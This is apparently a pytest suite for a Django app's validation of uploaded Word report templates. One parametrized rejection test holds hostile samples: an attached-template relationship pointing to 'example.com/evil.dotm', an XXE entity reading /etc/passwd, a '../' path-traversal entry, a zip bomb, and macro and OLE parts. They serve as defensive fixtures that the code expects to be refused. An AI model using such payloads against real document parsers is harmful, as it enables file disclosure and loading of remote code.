"""The office's own Word template: looked through before it is kept and used, ours in its place otherwise."""

from __future__ import annotations

import datetime as dt
import io
import zipfile

import docx
import pytest
from django.core.files.storage import default_storage

from renkei.core.accounts.actors import COMMAND_LINE, Actor, Role
from renkei.core.blocks.word_styles import shipped_template
from renkei.core.files.models import Document
from renkei.core.files.services import stored_path
from renkei.kernel.errors import RuleBroken
from renkei.reports.service import render
from renkei.reports.word_templates import check_template, keep_template, kept_template, template_in_use
from tests.reports.mihon import DAY

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("mihon")]
READER = Actor("reader", frozenset({Role.READER}), 3)


def template(*paragraphs: str, change=None) -> bytes:
    document = docx.Document(io.BytesIO(shipped_template("ja")))
    if paragraphs:
        for each in list(document.paragraphs):
            each._element.getparent().remove(each._element)
        document.sections[0].header.paragraphs[0].text = ""
        for text in paragraphs:
            document.add_paragraph(text)
    if change:
        change(document)
    kept = io.BytesIO()
    document.save(kept)
    return kept.getvalue()


def with_part(name: str, content: bytes, *, instead: bool = False) -> bytes:
    kept = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(template())) as before,
        zipfile.ZipFile(kept, "w", zipfile.ZIP_DEFLATED) as after,
    ):
        for entry in before.infolist():
            if entry.filename != name:
                after.writestr(entry, before.read(entry))
        if name != "[Content_Types].xml" or instead:
            after.writestr(name, content)
    return kept.getvalue()


def keep(content: bytes, actor=COMMAND_LINE, language="ja"):
    keep_template(actor=actor, language=language, stream=io.BytesIO(content))


def text_of(language="ja") -> str:
    content = render(2020, "yearly", language, "docx", actor=COMMAND_LINE, at=DAY).content
    return "\n".join(each.text for each in docx.Document(io.BytesIO(content)).paragraphs)


def test_our_own_template_is_accepted():
    for language in ("ja", "en"):
        check_template(shipped_template(language), language)


def test_a_template_that_is_kept_is_used_in_its_language():
    assert "決裁欄" not in text_of()
    keep(template("決裁欄　[[title]]", "[[body]]"))
    assert text_of().startswith("決裁欄　令和2年度の実績と令和3年度の取組")
    assert "決裁欄" not in text_of("en")
    kept = kept_template("ja")
    assert (kept.publication, kept.file) == ("internal", "report-template-ja.docx")


def test_a_newer_template_takes_the_place_of_the_older():
    keep(template("古い　[[title]]", "[[body]]"))
    keep(template("新しい　[[title]]", "[[body]]"))
    assert "新しい" in text_of()
    assert Document.objects.filter(pk="report-template-ja").count() == 1


def test_places_that_a_word_processor_cut_into_pieces_are_found():
    def cut(document):
        paragraph = document.paragraphs[0]
        for piece in ("[[ti", "tle", "]]　案"):
            paragraph.add_run(piece)

    keep(template("", "[[body]]", change=cut))
    assert "令和2年度の実績と令和3年度の取組　案" in text_of()


def test_places_in_tables_are_filled():
    def in_a_table(document):
        document.add_table(rows=1, cols=1).rows[0].cells[0].text = "[[number]]／[[cluster]]"

    keep(template("[[title]]", "[[body]]", change=in_a_table))
    content = render(2020, "yearly", "ja", "docx", actor=COMMAND_LINE, at=DAY, number="資料3").content
    cells = [
        cell.text
        for table in docx.Document(io.BytesIO(content)).tables
        for row in table.rows
        for cell in row.cells
    ]
    assert "資料3／見本クラスター" in cells


@pytest.mark.parametrize(
    ("paragraphs", "named"),
    [
        (("[[title]]",), "[[body]] がありません"),
        (("[[body]]",), "[[title]] がありません"),
        (("[[title]]", "[[body]]", "[[sign]]"), "[[sign]] は知らない名前です"),
        (("[[title]]", "[[body]]", "[[body]]"), "[[body]] が2か所にあります"),
        (("[[title]]", "本文：[[body]]"), "[[body]] は、その段落に"),
    ],
)
def test_places_that_do_not_fit_are_named(paragraphs, named):
    with pytest.raises(RuleBroken) as refused:
        keep(template(*paragraphs))
    assert refused.value.code == "template.places"
    assert named in refused.value.message.text("ja")
    assert refused.value.message.text("en")
    assert kept_template("ja") is None


def test_a_template_that_holds_an_individual_number_leaves_nothing_behind():
    with pytest.raises(RuleBroken, match="individual_number"):
        keep(template("[[title]]", "[[body]]", "個人番号 123456789018"))  # invented
    assert not Document.objects.filter(pk="report-template-ja").exists()


RELATIONS = b"""<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
 Target="http://example.com/evil.dotm" TargetMode="External"/></Relationships>"""


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (b"not a document", "load.broken_archive"),
        (b"", "load.broken_archive"),
        (with_part("word/vbaProject.bin", b"x"), "load.macros"),
        (with_part("word/embeddings/oleObject1.bin", b"x"), "template.outside"),
        (with_part("word/_rels/settings.xml.rels", RELATIONS), "template.outside"),
        (with_part("word/media/bomb.png", b"\0" * 60_000_000), "load.archive_bomb"),
        (with_part("../outside.xml", b"x"), "load.unsafe_entry"),
        (with_part("word/document.xml", b"<w:broken"), "template.not_word"),
        (
            with_part(
                "word/document.xml",
                b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>',
            ),
            "template.not_word",
        ),
    ],
    ids=["text", "nothing", "macros", "embedded", "attached", "bomb", "outside", "broken", "entity"],
)
def test_what_is_no_template_is_refused_and_nothing_is_kept(content, code):
    with pytest.raises(RuleBroken) as refused:
        keep(content)
    assert refused.value.code == code
    assert refused.value.message.text("ja") != refused.value.message.text("en")
    assert kept_template("ja") is None
    assert "令和2年度の実績と令和3年度の取組" in text_of()


def test_who_may_not_change_documents_may_not_keep_a_template():
    with pytest.raises(RuleBroken) as refused:
        keep(template(), actor=READER)
    assert refused.value.code == "permission.refused"
    assert kept_template("ja") is None


def test_a_template_that_is_gone_or_spoilt_is_not_used(caplog):
    keep(template("自前　[[title]]", "[[body]]"))
    path = stored_path(kept_template("ja").sha256)
    default_storage.delete(path)
    assert template_in_use("ja") is None
    assert "report-template-ja" in caplog.text
    assert "自前" not in text_of()
    assert template_in_use("fr") is None


def test_the_same_template_gives_the_same_bytes():
    keep(template("自前　[[title]]", "[[body]]"))
    one, other = (
        render(2020, "yearly", "ja", "docx", actor=COMMAND_LINE, at=dt.date(2024, 5, 1)).content
        for _ in range(2)
    )
    assert one == other
